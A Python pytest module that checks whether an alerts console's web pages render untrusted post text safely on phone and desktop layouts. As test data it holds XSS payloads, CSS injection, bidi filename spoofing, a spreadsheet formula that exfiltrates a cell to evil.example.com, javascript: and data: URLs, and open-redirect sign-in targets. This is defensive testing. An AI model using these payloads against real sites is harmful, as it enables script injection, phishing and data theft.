"""What strangers write is shown on every page as words: no script of theirs runs, nothing of ours is moved."""

from collections.abc import Callable

import pytest

from alerts.console.door import OpenDoor
from alerts.watch import Watcher
from stream.messages import ScoredPost
from tests.alerts.conftest import NOW
from tests.alerts.console.browser.conftest import Look
from tests.alerts.console.browser.test_pages import ASKED, MOST, PAGES

SCRIPT = "<script>alert('停电')</script><img src=x onerror=\"alert('停电')\"><svg onload=alert(1)>"
STYLE = "</style><style>body{display:none}main{width:9000px}</style>"
TURNED = "\u202e\u2066停电exe.cod\u2067"
FORMULA = '=HYPERLINK("https://evil.example.com/?"&A1,"停电")'
ENDLESS = "停电" * 2 + "A" * 1_000_000
HOSTILE = [SCRIPT, STYLE, TURNED, FORMULA, ENDLESS, f"{SCRIPT}{STYLE}停电", "{{ 7 * 7 }}停电{% raw %}", "停电\x00\x0b"]
ADDRESSES = ["javascript:alert(1)//", 'https://evil.example.com/"onmouseover=alert(1) x=', "data:text/html,<script>"]

CASE = 1
THEIRS = "main script:not([src*='/static/']), main style, main img[src=x], main svg[onload]"


@pytest.fixture
def told(watcher: Watcher, quiet_weeks: None, rumour: Callable[..., list[ScoredPost]]) -> list[ScoredPost]:
    """A case out of such posts; their authors, titles, boards and addresses are no better than their texts."""
    posts: list[ScoredPost] = []
    for at, text in enumerate(HOSTILE):
        changes = {"text": text, "title": (SCRIPT + TURNED)[:180], "board": STYLE[:60], "url": ADDRESSES[at % 3]}
        posts += rumour(5, first=1 + 5 * at, **changes)
    (seen,) = watcher.look(NOW)
    assert seen.case_id == CASE
    watcher.deliver(NOW)
    return posts


@pytest.mark.parametrize("size", ["phone", "desk"])
def test_no_page_is_taken_over_by_what_it_shows(look: Look, told: list[ScoredPost], size: str) -> None:
    one, wrong = look("zhao_lei", size), {}
    for door in PAGES:
        if isinstance(door, OpenDoor):
            continue
        one.open(door.path.replace("{number}", str(CASE)) + ASKED.get(door.path, ""))
        found = (
            one.page.locator("h1").first.is_visible(), one.sticks_out(),
            one.page.locator(THEIRS).count(),
            one.page.locator("a[href^='javascript:'], a[href^='data:']").count(),
            len(one.page.content().encode()) > MOST,
        )  # fmt: skip
        if found != (True, [], 0, 0, False):
            wrong[door.path] = found
    assert wrong == {}


def test_a_signature_in_the_address_is_no_script_either(look: Look, told: list[ScoredPost]) -> None:
    one = look(None)
    one.open("/signin?then=javascript:alert(1)")
    one.open("/signin?then=//evil.example.com/")
    assert one.page.locator("h1").first.is_visible()
